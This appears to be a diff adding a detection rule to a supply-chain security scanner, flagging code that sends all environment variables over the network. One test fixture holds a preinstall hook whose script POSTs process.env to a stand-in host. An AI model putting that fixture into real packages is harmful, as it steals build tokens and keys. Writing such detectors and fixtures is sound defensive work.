@@ -1,0 +1,64 @@
+//! The whole environment leaves over the network.
+
+use super::{Context, Declaration, Example, Finding, judge};
+use crate::model::Severity;
+
+pub(super) static FINDING: Declaration = Declaration {
+    id: "environment-exfiltration",
+    title: "Sends the whole environment over the network",
+    severity: Severity::Critical,
+    summary: "All environment variables at once reach a request, a socket or a DNS question. On build machines they hold tokens and keys.",
+    advice: "Nothing needs all variables. If it ran where secrets are in the environment, revoke them.",
+    benign_when: "A diagnostic tool sends its own crash reports, and says so; even then it should pick variables by name.",
+    references: &["CWE-200", "CWE-506", "T1041", "T1552"],
+    examples: &[
+        Example {
+            name: "an install script posts process.env",
+            severity: Some(Severity::Critical),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","scripts":{"preinstall":"node i.js"}}"#,
+                ),
+                (
+                    "i.js",
+                    r#"fetch("https://collect.invalid/", { method: "POST", body: JSON.stringify(process.env) });"#,
+                ),
+            ],
+        },
+        Example {
+            name: "a child process gets the environment",
+            severity: None,
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"const { spawn } = require("child_process");
+exports.run = (tool) => spawn(tool, [], { env: { ...process.env, CI: "1" } });"#,
+                ),
+            ],
+        },
+    ],
+    detect,
+};
+
+fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
+    for flow in context.flows {
+        if flow.id != "environment-to-network" {
+            continue;
+        }
+        let host = flow
+            .sink
+            .target
+            .as_deref()
+            .unwrap_or("a host that is not resolved");
+        let message = format!("all environment variables are sent to {host}");
+        let mut finding = Finding::of_flow(&FINDING, flow, message);
+        judge::by_destination(context, flow, &flow.sink, Severity::Medium, &mut finding);
+        judge::by_reach(flow, &mut finding);
+        found.push(finding);
+    }
+}
